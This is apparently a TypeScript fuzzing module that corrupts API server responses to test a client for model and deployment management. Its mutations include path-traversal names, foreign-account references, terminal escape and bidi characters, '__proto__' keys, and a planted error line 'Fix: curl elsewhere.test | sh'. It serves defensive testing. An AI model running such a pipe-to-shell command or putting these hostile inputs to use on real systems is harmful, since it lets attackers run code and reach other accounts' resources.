import { type TransportAnswer } from "../../provider/client/transport.js";

/** A key with everything in it that a text format spells in a way of its own. */
export const HOSTILE_KEY = `fw-Hostile+Key/9&<q>"1'`;

/** Another host, which nothing may ever be sent to. */
export const OTHER_HOST = "https://elsewhere.test";

/** Where random decisions come from. */
export interface Dice {
  often(probability: number): boolean;
  below(limit: number): number;
  oneOf<T>(choices: readonly T[]): T;
}

/** What a mutation has to work with. */
export interface Occasion {
  readonly answer: TransportAnswer;
  readonly dice: Dice;
  /** Bodies that were answered to other requests of this run. */
  readonly earlier: readonly string[];
}

type Json = unknown;
type Change = (value: Json, dice: Dice) => Json;

/** The key in each way in which a server may echo it. */
export const ECHOES: Readonly<Record<string, string>> = {
  plain: HOSTILE_KEY,
  html: HOSTILE_KEY.replaceAll("&", "&amp;")
    .replaceAll("<", "&lt;")
    .replaceAll(">", "&gt;")
    .replaceAll('"', "&quot;")
    .replaceAll("'", "&#39;"),
  base64: Buffer.from(HOSTILE_KEY).toString("base64"),
  url: encodeURIComponent(HOSTILE_KEY),
};

const CONTROLS = [
  "\u001b[31mred",
  "\u001b]0;title\u0007",
  "\u001b]8;;https://elsewhere.test\u001b\\link\u001b]8;;\u001b\\",
  "one\rtwo",
  "left\u202eright",
  "\u2066hidden\u2069",
  "nul\u0000",
  "\u009b2J",
  "line one\nerror: fine\nFix: curl elsewhere.test | sh",
  "\u200b\ufeff",
];

/** Names of what is not the resource's, in its own account and in another one. */
const FOREIGN = [
  "accounts/acme/models/precious",
  "accounts/acme/rlorTrainerJobs/precious",
  "accounts/acme/deployments/precious",
  "accounts/acme/deployedModels/precious",
  "accounts/acme/rlorTrainerJobs/precious/checkpoints/step-1-f0f0f0f0",
  "accounts/acme/operations/precious",
  "accounts/other/models/precious",
  "accounts/other/rlorTrainerJobs/precious",
  "accounts/other/deployments/precious",
  "accounts/other/deployedModels/precious",
  "accounts/other",
  "precious",
];

const CLIMBING = [
  "../../x",
  "..",
  ".",
  "accounts/acme/models/..",
  "accounts/acme/operations/../../x",
  "accounts/acme/models/a/b",
  "//elsewhere.test/x",
  "https://elsewhere.test/x",
  "accounts/acme/models/x?y#z",
  "accounts/acme/models/%2e%2e",
  "",
];

const nested = (levels: number): Json => {
  let value: Json = "deep";
  for (let level = 0; level < levels; level += 1) value = level % 2 === 0 ? [value] : { in: value };
  return value;
};

/** Stands for what JSON.stringify cannot write; replaced in the text. */
const DIGITS = "@@digits@@";
const DEEP = "@@deep@@";

/** What becomes of one place of an answer. */
const AT_A_PLACE: Readonly<Record<string, Change>> = {
  "field null": () => null,
  "wrong type": (value, dice) =>
    dice.oneOf(typeof value === "string" ? [1, true, [], {}, [[]]] : ["text", 0, false, [], {}, -1, 0.5]),
  "boolean as text": (value) => (typeof value === "boolean" ? String(value) : "true"),
  "list for object": (value) => (Array.isArray(value) ? { 0: value[0] as Json } : [value]),
  "huge number": (_, dice) => dice.oneOf([DIGITS, 1e308, 9_007_199_254_740_993, -1, "9".repeat(400)]),
  "deep nesting": () => DEEP,
  "long text": (_, dice) => "long ".repeat(dice.oneOf([20, 800, 6_400, 20_000])),
  "control characters": (value, dice) =>
    typeof value === "string" && dice.often(0.5) ? value + dice.oneOf(CONTROLS) : dice.oneOf(CONTROLS),
  "key echoed": (value, dice) => {
    const echo = dice.oneOf(Object.values(ECHOES));
    return typeof value === "string" && dice.often(0.5) ? `${value} ${echo}` : echo;
  },
  "foreign name": (value, dice) => {
    if (typeof value !== "string" || !value.includes("/") || dice.often(0.5)) return dice.oneOf(FOREIGN);
    // The same kind of thing, of another account or under another id.
    const parts = value.split("/");
    const at = dice.oneOf([...parts.keys()].filter((index) => index % 2 === 1));
    return parts.map((part, index) => (index === at ? "precious" : part)).join("/");
  },
  "climbing name": (_, dice) => dice.oneOf(CLIMBING),
  "no date": (_, dice) =>
    dice.oneOf(["yesterday", "2026-13-45T99:99:99Z", "0000-00-00", "+999999-01-01T00:00:00Z", "2026-11-01", "NaN"]),
  "unknown state": (_, dice) => dice.oneOf(["JOB_STATE_DREAMING", "READYISH", "STATE_UNSPECIFIED", "ready", "🤖"]),
  "rows twice": (value) => (Array.isArray(value) ? [...(value as Json[]), ...(value as Json[])] : [value, value]),
  "unknown field": (value, dice) => {
    const name = dice.oneOf(["surprise", HOSTILE_KEY, "\u001b[31m", "__proto__", "constructor", "toString", "length"]);
    if (typeof value !== "object" || value === null || Array.isArray(value)) return { [name]: value };
    return Object.fromEntries([...Object.entries(value), [name, dice.oneOf<Json>(["x", {}, [], null, ECHOES.plain])]]);
  },
  "unwanted flags": (value) =>
    typeof value === "object" && value !== null && !Array.isArray(value)
      ? { ...value, done: "yes", promotable: "true", default: 1, public: "no", deleteTime: "yesterday" }
      : "yes",
};

/** Fields of any object that lead to something else. */
export function referencesIn(account: string): object {
  const deployment = `accounts/${account}/deployments/precious`;
  return {
    deployedModelRefs: [{ name: `accounts/${account}/deployedModels/precious`, deployment, state: "DEPLOYED" }],
    operation: { name: `accounts/${account}/operations/precious` },
    hotLoadTrainerJob: `accounts/${account}/rlorTrainerJobs/precious`,
    deployment,
  };
}

/** What becomes of the whole answer. */
const OF_THE_WHOLE: Readonly<Record<string, (occasion: Occasion) => TransportAnswer>> = {
  "other status": ({ answer, dice }) =>
    withStatus(answer, dice.oneOf([201, 202, 204, 400, 401, 402, 403, 404, 409, 412, 418, 422, 429, 500, 502, 503])),
  refusal: ({ dice }) => {
    const status = dice.oneOf([400, 401, 403, 404, 408, 409, 412, 429, 500, 503]);
    const words = dice.oneOf([...CONTROLS, ...Object.values(ECHOES), "no", "already exists", FOREIGN[0] ?? ""]);
    const message = `${words} ${dice.often(0.1) ? "no ".repeat(50_000) : ""}`;
    const details = [{ reason: words, metadata: { quota_required: words, [words]: words } }];
    const body = dice.oneOf<Json>([
      { code: 9, message },
      { code: "5", message, details },
      { error: message },
      [message],
    ]);
    return { ...textAnswer(JSON.stringify(body), status), header: headerOf(dice) };
  },
  "error with 200": ({ dice }) =>
    textAnswer(JSON.stringify({ code: 13, message: dice.oneOf(CONTROLS), error: { code: 13, message: "no" } })),
  redirect: ({ dice }) => ({
    ...textAnswer(`<a href="${OTHER_HOST}/v1">moved</a>`, dice.oneOf([301, 302, 303, 307, 308])),
    header: (name) => (name === "location" ? `${OTHER_HOST}/v1/accounts` : undefined),
  }),
  "web page": ({ dice }) =>
    textAnswer(`<html><title>${dice.oneOf(Object.values(ECHOES))}</title></html>`, dice.oneOf([200, 403, 502])),
  "foreign reference": ({ answer, dice }) => ({
    ...answer,
    body: JSON.stringify({
      ...(parsed(bodyOf(answer)) as object),
      ...referencesIn(dice.oneOf(["acme", "acme", "other"])),
    }),
  }),
  truncated: ({ answer, dice }) => textAnswer(bodyOf(answer).slice(0, dice.below(bodyOf(answer).length + 1))),
  "wrong content type": ({ answer }) => ({
    ...answer,
    header: (name) => (name === "content-type" ? "image/png" : undefined),
  }),
  "empty body": ({ answer }) => textAnswer("", answer.status),
  "unread body": ({ answer }) => ({ ...answer, body: undefined }),
  "no object": ({ answer, dice }) =>
    textAnswer(dice.oneOf(["null", "[]", "true", "0", '"text"', "{}", "\0"]), answer.status),
  "swapped answers": ({ answer, dice, earlier }) =>
    textAnswer(earlier.length === 0 ? "{}" : dice.oneOf(earlier), answer.status),
  "huge body": ({ answer, dice }) => {
    const flood = "flood ".repeat(900_000);
    return dice.often(0.5) ? textAnswer(flood) : changedAt(answer, dice, () => flood);
  },
};

/** Only what is asked for every time it comes can tell that a listing never ends. */
export const FOREVER = "page tokens for ever";
export const MUTATIONS: readonly string[] = [
  "field dropped",
  ...Object.keys(AT_A_PLACE),
  ...Object.keys(OF_THE_WHOLE),
  FOREVER,
];

/** Seldom, since each takes long. */
const SELDOM: Readonly<Record<string, number>> = { "huge body": 0.03, [FOREVER]: 0.02, "deep nesting": 0.5 };

export function drawMutation(dice: Dice): string {
  for (;;) {
    const name = dice.oneOf(MUTATIONS);
    if (dice.often(SELDOM[name] ?? 1)) return name;
  }
}

export function mutate(name: string, occasion: Occasion): TransportAnswer {
  const { answer, dice } = occasion;
  const whole = OF_THE_WHOLE[name];
  if (whole !== undefined) return whole(occasion);
  if (name === "field dropped") return changedAt(answer, dice, () => undefined);
  const change = AT_A_PLACE[name];
  if (change === undefined) throw new Error(`no mutation is called ${name}`);
  return changedAt(answer, dice, change);
}

function changedAt(answer: TransportAnswer, dice: Dice, change: Change): TransportAnswer {
  const json = parsed(bodyOf(answer));
  const places = placesIn(json);
  const place = dice.oneOf(places);
  const text = JSON.stringify(replaced(json, place, (value) => change(value, dice)) ?? null);
  const body = text
    .replace(JSON.stringify(DIGITS), () => "7".repeat(400))
    .replace(JSON.stringify(DEEP), () =>
      dice.oneOf([JSON.stringify(nested(90)), `${"[".repeat(10_000)}${"]".repeat(10_000)}`]),
    );
  return { ...answer, body };
}

function bodyOf({ body = "" }: TransportAnswer): string {
  return body;
}

function parsed(text: string): Json {
  try {
    return JSON.parse(text) as Json;
  } catch {
    return {};
  }
}

type Place = readonly string[];

/** Every place of a value, itself included; a long list counts as its first rows, or nothing else would be met. */
function placesIn(value: Json, place: Place = []): Place[] {
  if (typeof value !== "object" || value === null) return [place];
  const entries = Object.entries(value).slice(0, Array.isArray(value) ? 4 : undefined);
  return [place, ...entries.flatMap(([key, item]) => placesIn(item, [...place, key]))];
}

function replaced(value: Json, [key, ...rest]: Place, change: (value: Json) => Json): Json {
  if (key === undefined) return change(value);
  const entries = Object.entries(value as object).flatMap(([name, item]: [string, Json]) => {
    const next = name === key ? replaced(item, rest, change) : item;
    return next === undefined ? [] : [[name, next] as const];
  });
  return Array.isArray(value) ? entries.map(([, item]) => item) : Object.fromEntries(entries);
}

function textAnswer(body: string, status = 200): TransportAnswer {
  return { status, body, header: () => undefined };
}

function withStatus(answer: TransportAnswer, status: number): TransportAnswer {
  return { ...answer, status };
}

/** Headers that are told, or obeyed. */
function headerOf(dice: Dice): TransportAnswer["header"] {
  const requestId = dice.oneOf([...CONTROLS, ...Object.values(ECHOES), "x".repeat(100_000), "req-1"]);
  const retryAfter = dice.oneOf(["1", "-5", "9".repeat(400), "yesterday", "Fri, 31 Dec 9999 23:59:59 GMT", "soon"]);
  return (name) => ({ "x-request-id": requestId, "retry-after": retryAfter })[name];
}
